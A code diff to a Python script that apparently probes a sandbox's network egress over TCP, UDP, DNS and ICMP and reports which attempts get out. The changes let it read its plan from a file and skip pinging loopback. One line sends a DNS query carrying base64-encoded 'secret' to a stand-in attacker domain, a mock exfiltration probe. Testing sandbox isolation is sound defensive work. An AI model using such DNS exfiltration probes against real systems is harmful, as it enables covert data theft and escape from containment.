@@ -1,6 +1,6 @@
 """Runs inside a sandbox: tries every way out and prints what happened as JSON on stdout.
 
-argv[1]: JSON {"hosts": [addresses of the host], "tcp": port, "udp": port, "others": [[address, port]]}.
+/workspace/plan.json (or argv[1]): JSON {"hosts": [addresses of the host], "tcp": port, "udp": port, "others": [[address, port]]}.
 An attempt ends in the name of the error, in "sent" (a datagram left the socket) or in "REACHED".
 """
 
@@ -9,7 +9,7 @@ import socket
 import struct
 import sys
 
-plan = json.loads(sys.argv[1])
+plan = json.load(open(sys.argv[1] if sys.argv[1:] else "/workspace/plan.json"))
 found = {}
 
 
@@ -67,7 +67,7 @@ for host in plan["hosts"]:
     attempt("tcp " + host, lambda: tcp(host, plan["tcp"]))
     attempt("udp " + host, lambda: udp(host, plan["udp"]))
     attempt("dns " + host, lambda: udp(host, 53, dns_query("c2VjcmV0.attacker.test")))
-    if ":" not in host:
+    if ":" not in host and not host.startswith("127."):  # loopback answers a ping from within
         attempt("icmp " + host, lambda: ping(host))
 for address, port in plan["others"]:
     attempt("tcp %s" % address, lambda: tcp(address, port))
